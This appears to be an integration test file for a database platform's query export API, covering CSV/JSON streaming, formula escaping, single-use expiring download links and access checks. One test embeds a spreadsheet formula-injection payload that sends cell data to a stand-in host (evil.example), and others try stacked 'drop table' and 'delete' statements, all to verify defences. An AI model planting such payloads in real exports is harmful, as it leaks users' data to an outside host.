import {
  EXPORT_LINK_INVALID_MESSAGE,
  EXPORT_LINK_TTL_MS,
  type ExportLinkResponse,
  type Project,
  type QueryErrorResponse,
  type RunQueryResponse,
} from '@pgfleet/contracts'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { type SqlTestSetup, startSqlTestSetup } from '../control/sql-editor/testing'
import type { ApiClient } from '../testing/harness'

let s: SqlTestSetup
const tokens: Record<string, string> = {}

beforeAll(async () => {
  s = await startSqlTestSetup({ reader: 'Read-only' }, { waitHealthy: true })
  for (const [name, client] of [
    ['owner', s.owner],
    ['reader', s.members.reader as ApiClient],
  ] as const) {
    tokens[name] = (
      await client.post<{ token: string }>('/platform/profile/access-tokens', { name: 'export' })
    ).body.token
  }
  const setup = await s.owner.post<RunQueryResponse>(`${s.base}/query`, {
    query: `create table wide as select g as id, md5(g::text) as c1, g * 2 as c2, g % 7 = 0 as c3, now() as c4,
      '{"n":' || g || '}' as c5, null::text as c6, g::numeric / 3 as c7, 'row ' || g as c8, array[g, g] as c9
      from generate_series(1, 100000) g`,
  })
  if (setup.status !== 200) throw new Error(JSON.stringify(setup.body))
})
afterAll(async () => {
  await s?.t.destroy()
})

function exportRequest(format: string, body: Record<string, unknown>, as = 'owner') {
  return fetch(`${s.t.baseUrl}${s.base}/query/export?format=${format}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${tokens[as]}`, 'content-type': 'application/json' },
    body: JSON.stringify(body),
  })
}

/** Reads a streamed body chunk by chunk, counting lines without keeping the text. */
async function countLines(response: Response): Promise<{ lines: number; ids: Set<number>; header: string }> {
  const reader = response.body?.pipeThrough(new TextDecoderStream()).getReader()
  if (!reader) throw new Error('no body')
  let rest = ''
  let lines = 0
  let header = ''
  const ids = new Set<number>()
  for (;;) {
    const { done, value } = await reader.read()
    if (done) break
    const parts = (rest + value).split('\r\n')
    rest = parts.pop() ?? ''
    for (const line of parts) {
      if (lines === 0) header = line
      else ids.add(Number(line.slice(0, line.indexOf(','))))
      lines++
    }
  }
  expect(rest).toBe('')
  return { lines, ids, header }
}

describe('POST /platform/pg-meta/{ref}/query/export', () => {
  it('streams 100,000 rows of 10 columns as CSV, each row exactly once', async () => {
    const response = await exportRequest('csv', { query: 'select * from wide' })
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="query-result.csv"')
    const { lines, ids, header } = await countLines(response)
    expect(header).toBe('id,c1,c2,c3,c4,c5,c6,c7,c8,c9')
    expect(lines).toBe(100_001)
    expect(ids.size).toBe(100_000)
    expect(Math.min(...ids)).toBe(1)
    expect(Math.max(...ids)).toBe(100_000)
  })

  it('streams JSON objects with the same values as the query route', async () => {
    const response = await exportRequest('json', {
      query: 'select id, c2, c3, c5::jsonb, c6, c9 from wide order by id',
    })
    expect(response.headers.get('content-type')).toBe('application/json; charset=utf-8')
    const rows = (await response.json()) as Record<string, unknown>[]
    expect(rows).toHaveLength(100_000)
    expect(rows[6]).toEqual({ id: 7, c2: 14, c3: true, c5: { n: 7 }, c6: null, c9: [7, 7] })
    expect(new Set(rows.map((r) => r.id)).size).toBe(100_000)
  })

  it('quotes CSV fields so NULL, empty strings, commas, quotes and newlines survive', async () => {
    const response = await exportRequest('csv', {
      query: `select * from (values (null, '', 'a,b', 'say "hi"', E'two\\nlines', ' pad')) v("n", "e", "c", "q", "l", "s")`,
    })
    expect(await response.text()).toBe('n,e,c,q,l,s\r\n,"","a,b","say ""hi""","two\nlines"," pad"\r\n')
    const empty = await exportRequest('json', { query: 'select 1 as a where false' })
    expect(await empty.json()).toEqual([])
  })

  it('escapes cells a spreadsheet would run as formulas, unless asked for the raw file', async () => {
    const query = `select '=HYPERLINK("http://evil.example/?"||A1)' as "=link", '@SUM(A1)' as a, '+1+1' as b, -5 as n, E'\\t=1' as t`
    const escaped = await exportRequest('csv', { query })
    expect(await escaped.text()).toBe(
      `'=link,a,b,n,t\r\n"'=HYPERLINK(""http://evil.example/?""||A1)",'@SUM(A1),'+1+1,-5,'\t=1\r\n`,
    )
    const raw = await exportRequest('csv&formulas=keep', { query })
    expect(await raw.text()).toBe(
      `=link,a,b,n,t\r\n"=HYPERLINK(""http://evil.example/?""||A1)",@SUM(A1),+1+1,-5,"\t=1"\r\n`,
    )
    expect((await exportRequest('csv&formulas=run', { query })).status).toBe(400)
    // JSON is data, not a spreadsheet: it stays as it is
    expect(await (await exportRequest('json', { query })).json()).toEqual([
      { '=link': '=HYPERLINK("http://evil.example/?"||A1)', a: '@SUM(A1)', b: '+1+1', n: -5, t: '\t=1' },
    ])
  })

  it('writes booleans in CSV as the results grid shows them', async () => {
    const response = await exportRequest('csv', {
      query: "select true as yes, false as no, null::bool as unknown, array[true, false] as flags, 'f' as letter",
    })
    expect(await response.text()).toBe('yes,no,unknown,flags,letter\r\ntrue,false,,"{true,false}",f\r\n')
  })

  it('binds parameters and lets read-only members export', async () => {
    const response = await exportRequest(
      'json',
      { query: '@set min = 99998\nselect id from wide where id >= :min::int order by id' },
      'reader',
    )
    expect(await response.json()).toEqual([{ id: 99998 }, { id: 99999 }, { id: 100000 }])
  })

  it('refuses several statements and writes before streaming, with positions in the SQL as written', async () => {
    const several = await exportRequest('csv', { query: 'select 1; drop table wide' })
    expect(several.status).toBe(400)
    expect(((await several.json()) as QueryErrorResponse).message).toBe(
      'cannot insert multiple commands into a prepared statement',
    )
    const write = await exportRequest('csv', { query: 'delete from wide returning id' })
    expect(write.status).toBe(400)
    const typo = await exportRequest('csv', { query: 'select idd from wide' })
    expect(await typo.json()).toMatchObject({ code: '42703', position: 8 })
    const still = await s.owner.post<RunQueryResponse>(`${s.base}/query`, { query: 'select count(*)::int from wide' })
    expect(still.body.results[0]?.rows).toEqual([[100_000]])
    expect((await exportRequest('xml', { query: 'select 1' })).status).toBe(400)
  })

  it('answers up to 100,000 rows on the query route and drops the rest', async () => {
    const all = await s.owner.post<RunQueryResponse>(`${s.base}/query`, { query: 'select * from wide' })
    expect(all.body.results[0]?.rows).toHaveLength(100_000)
    expect(all.body.results[0]?.columns).toHaveLength(10)
    expect(all.body).toMatchObject({ truncated: false, autoLimit: 100_000 })
    const over = await s.owner.post<RunQueryResponse>(`${s.base}/query`, {
      query: 'select 1; select g from generate_series(1, 300000) g',
    })
    expect(over.body.results.map((r) => [r.rows.length, r.rowCount, r.truncated])).toEqual([
      [1, 1, false],
      [99_999, 300_000, true],
    ])
    expect(over.body.truncated).toBe(true)
  })

  it('breaks the download (instead of ending it cleanly) when the query fails midway', async () => {
    const response = await exportRequest('csv', {
      query: 'select id, id / (id - 60000) as boom from wide',
    })
    expect(response.status).toBe(200)
    await expect(response.text()).rejects.toThrow()
    // the connection went back to the pool in a usable state
    const after = await s.owner.post<RunQueryResponse>(`${s.base}/query`, { query: 'select 1 as ok' })
    expect(after.body.results[0]?.rows).toEqual([[1]])
  })
})

describe('export download links (POST .../query/export-url, then GET the fileUrl once)', () => {
  function linkRequest(format: string, body: Record<string, unknown>, as = 'owner') {
    return fetch(`${s.t.baseUrl}${s.base}/query/export-url?format=${format}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${tokens[as]}`, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    })
  }
  async function link(format: string, body: Record<string, unknown>, as = 'owner'): Promise<ExportLinkResponse> {
    const response = await linkRequest(format, body, as)
    expect(response.status).toBe(200)
    return (await response.json()) as ExportLinkResponse
  }
  const download = (url: string, as = 'owner') => fetch(url, { headers: { authorization: `Bearer ${tokens[as]}` } })

  it('streams 100,000 rows through a single-use address, each row exactly once', async () => {
    const before = Date.now()
    const { fileUrl, expires_at } = await link('csv', { query: 'select * from wide' })
    expect(fileUrl).toMatch(new RegExp(`^${s.t.baseUrl}${s.base}/query/export/[\\w-]{43}$`))
    const expiresIn = new Date(expires_at).getTime() - before
    expect(expiresIn).toBeGreaterThan(EXPORT_LINK_TTL_MS - 5_000)
    expect(expiresIn).toBeLessThanOrEqual(EXPORT_LINK_TTL_MS + 1_000)

    const response = await download(fileUrl)
    expect(response.status).toBe(200)
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="query-result.csv"')
    const { lines, ids, header } = await countLines(response)
    expect(header).toBe('id,c1,c2,c3,c4,c5,c6,c7,c8,c9')
    expect(lines).toBe(100_001)
    expect(ids.size).toBe(100_000)
    expect(Math.min(...ids)).toBe(1)
    expect(Math.max(...ids)).toBe(100_000)

    const again = await download(fileUrl)
    expect(again.status).toBe(404)
    expect(await again.json()).toEqual({ message: EXPORT_LINK_INVALID_MESSAGE })
  })

  it('keeps the formula choice made when the address was handed out', async () => {
    const query = "select '=1+1' as f"
    expect(await (await download((await link('csv', { query })).fileUrl)).text()).toBe("f\r\n'=1+1\r\n")
    expect(await (await download((await link('csv&formulas=keep', { query })).fileUrl)).text()).toBe('f\r\n=1+1\r\n')
  })

  it('refuses the address after it expired', async () => {
    const { fileUrl } = await link('json', { query: 'select 1 as one' })
    vi.useFakeTimers({ toFake: ['Date'] })
    try {
      vi.setSystemTime(Date.now() + EXPORT_LINK_TTL_MS + 1_000)
      const late = await download(fileUrl)
      expect(late.status).toBe(404)
      expect(await late.json()).toEqual({ message: EXPORT_LINK_INVALID_MESSAGE })
    } finally {
      vi.useRealTimers()
    }
    // a fresh one works
    const fresh = await link('json', { query: 'select 1 as one' })
    expect(await (await download(fresh.fileUrl)).json()).toEqual([{ one: 1 }])
  })

  it('is bound to its user and project: others get nothing and the owner can still use it', async () => {
    const { fileUrl } = await link('json', { query: 'select id from wide where id <= 2 order by id' })
    expect((await download(fileUrl, 'reader')).status).toBe(404)
    expect((await fetch(fileUrl)).status).toBe(401)

    const slug = (await s.owner.get<Project>(`/platform/projects/${s.project.ref}`)).body.organization_slug
    const other = await s.owner.post<Project>('/v1/projects', {
      name: 'Other',
      organization_slug: slug,
      db_pass: 'other-db-password',
    })
    expect(other.status).toBe(201)
    const elsewhere = fileUrl.replace(`/pg-meta/${s.project.ref}/`, `/pg-meta/${other.body.ref}/`)
    expect((await download(elsewhere)).status).toBe(404)

    expect(await (await download(fileUrl)).json()).toEqual([{ id: 1 }, { id: 2 }])
  })

  it('lets read-only members export with bound parameters, on the read-only path', async () => {
    const { fileUrl } = await link(
      'json',
      { query: '@set min = 99999\nselect id from wide where id >= :min::int order by id' },
      'reader',
    )
    expect(await (await download(fileUrl, 'reader')).json()).toEqual([{ id: 99999 }, { id: 100000 }])
  })

  it('checks the query before handing out an address: errors answer at once, in the query error shape', async () => {
    const typo = await linkRequest('csv', { query: 'select idd from wide' })
    expect(typo.status).toBe(400)
    expect(await typo.json()).toMatchObject({ code: '42703', position: 8 })
    const write = await linkRequest('csv', { query: 'delete from wide returning id' })
    expect(write.status).toBe(400)
    const several = await linkRequest('csv', { query: 'select 1; drop table wide' })
    expect(several.status).toBe(400)
    expect((await linkRequest('xml', { query: 'select 1' })).status).toBe(400)
    const count = await s.owner.post<RunQueryResponse>(`${s.base}/query`, { query: 'select count(*)::int from wide' })
    expect(count.body.results[0]?.rows).toEqual([[100_000]])
  })
})
